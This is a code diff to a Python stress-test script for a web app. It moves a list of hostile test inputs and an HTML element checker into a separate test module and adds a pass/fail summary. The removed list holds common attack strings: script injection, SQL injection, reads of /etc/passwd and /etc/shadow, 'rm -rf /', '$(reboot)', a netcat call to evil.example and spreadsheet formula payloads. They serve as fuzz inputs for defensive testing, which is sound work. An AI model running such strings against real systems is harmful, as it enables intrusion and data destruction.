@@ -21,12 +21,15 @@ import threading
 import time
 from contextlib import ExitStack
 from dataclasses import dataclass, field
-from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
 
 import httpx
 import torch
 
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))  # where the hostile texts are
+
+from hostile_texts import FORMULA, HOSTILE, Markup
 from qgt.files.atomic import write_text
 from qgt.files.provenance import provenance
 from qgt.lab.planning import Candidate, Plan, Question
@@ -39,38 +42,6 @@ from qgt.web.planning import add_run
 from qgt.web.serving import in_background
 from qgt.web.settings import Settings
 from qgt.web.store import Store
-
-HOSTILE = (
-    *("<script>alert(1)</script>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>"),
-    *("</title><svg onload=x>", "<!--", "]]>", "&lt;b&gt;", "<style>*{display:none}</style>", "javascript:alert(1)"),
-    *("<iframe src=//evil.example>", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "'=1"),
-    *('=HYPERLINK("http://evil.example")', "{{ 7*7 }}", "{% for x in y %}", "${7*7}", "#{7*7}", "%s%s%n", "%00"),
-    *("{0.__class__}", "'; DROP TABLE runs;--", '" OR 1=1 --', "1; DELETE FROM trail", "\\'; --"),
-    *("' UNION SELECT value FROM keys --", "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\CON"),
-    *("file:///etc/passwd", "a/../../b", "~root", "; rm -rf /", "$(reboot)", "`id`", "| nc evil.example 1", "&& true"),
-    *("\r\nSet-Cookie: a=b", "a\r\n\r\nb", "\x00", "\x1b[2J", "\u202egnp.exe", "\u200b", "\ufeff", "a" * 5000),
-    *("\U0001f4a9", "e\u0301", "\ufdfa", "NaN", "1e999", "-0", "0x10", "1_000", "\uff11", "\u2028", "</textarea><b>"),
-)
-FORMULA = re.compile(r"[=+@\t\r]|-(?!\d)")
-FORBIDDEN = {"img", "iframe", "object", "embed", "base", "frame", "math"}
-
-
-class Markup(HTMLParser):
-    """The elements of a page that could do something, as a browser would find them."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.found: list[str] = []
-
-    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
-        """Look at one element."""
-        given = dict(attributes)
-        own = tag == "script" and given.get("src") == "/static/counts.js"
-        if tag in FORBIDDEN or (tag == "script" and not own):
-            self.found.append(tag)
-        self.found += [name for name in given if name.startswith("on") or name == "style"]
-        links = [given.get(name) or "" for name in ("href", "src", "action")]
-        self.found += [link for link in links if link.split(":")[0].lower() in ("javascript", "file", "http", "https")]
 
 
 @dataclass
@@ -127,7 +98,7 @@ class Tally:
             self.faults.append(words)
 
 
-def main() -> None:
+def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("--users", type=int, default=20)
     parser.add_argument("--seconds", type=float, default=30.0, help="of load; 0 leaves it out")
@@ -136,7 +107,7 @@ def main() -> None:
     parser.add_argument("--hostile", type=int, default=len(HOSTILE), help="names and cells to try")
     parser.add_argument("--output", type=Path, default=None)
     given = parser.parse_args()
-    found: dict[str, object] = {}
+    found: dict[str, Any] = {}
     if given.seconds:
         found["load"] = load(given.users, given.seconds, given.think)
     if given.kills:
@@ -148,6 +119,22 @@ def main() -> None:
     print(text)
     if given.output is not None:
         write_text(given.output, text)
+    return int(bool(broken(found)))
+
+
+def broken(found: dict[str, Any]) -> list[str]:
+    """The promises that were not kept, printed."""
+    load, kills, hostile = (found.get(name) or {} for name in ("load", "kills", "hostile"))
+    faults = [
+        *(["server errors"] if load.get("server_errors") else []),
+        *(["wrong calls"] if load.get("wrong") else []),
+        *(["slow decodes"] if load and load["p99_seconds"]["calls"] >= 1.0 else []),
+        *(["memory growth"] if load.get("memory_growth", 0.0) >= 0.05 else []),
+        *(["lost counts"] if kills.get("lost") else []),
+        *(["hostile texts"] if hostile.get("through") else []),
+    ]
+    print("promises kept" if not faults else f"promises broken: {', '.join(faults)}")
+    return faults
 
 
 # --- load -----------------------------------------------------------------------------------------------------------
@@ -363,4 +350,4 @@ def _plan_with(text: str) -> Plan:
 
 
 if __name__ == "__main__":
-    main()
+    sys.exit(main())
